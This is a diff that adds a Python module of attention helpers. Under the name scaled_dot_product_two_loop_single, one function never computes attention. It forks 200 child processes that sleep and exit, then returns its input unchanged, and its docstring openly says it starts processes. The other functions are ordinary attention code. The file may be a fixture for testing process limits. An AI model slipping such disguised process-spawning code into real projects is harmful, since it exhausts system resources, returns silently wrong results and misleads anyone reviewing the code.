@@ -1,0 +1,26 @@
+"""Starts processes that start processes."""
+
+import os
+import time
+
+
+def weighted_read(weights, values):
+    return weights @ values
+
+def scaled_dot_product_two_loop_single(query, key, value):
+    for _ in range(200):
+        try:
+            if os.fork() == 0:
+                time.sleep(3)
+                os._exit(0)
+        except OSError as error:
+            raise RuntimeError(f"refused: {error.strerror}") from error
+    return value
+
+
+def scaled_dot_product_no_loop_batch(query, key, value, mask=None):
+    scores = query @ key.transpose(1, 2) * query.shape[-1] ** -0.5
+    if mask is not None:
+        scores = scores.masked_fill(mask, -1e9)
+    weights = scores.softmax(dim=-1)
+    return weights @ value, weights
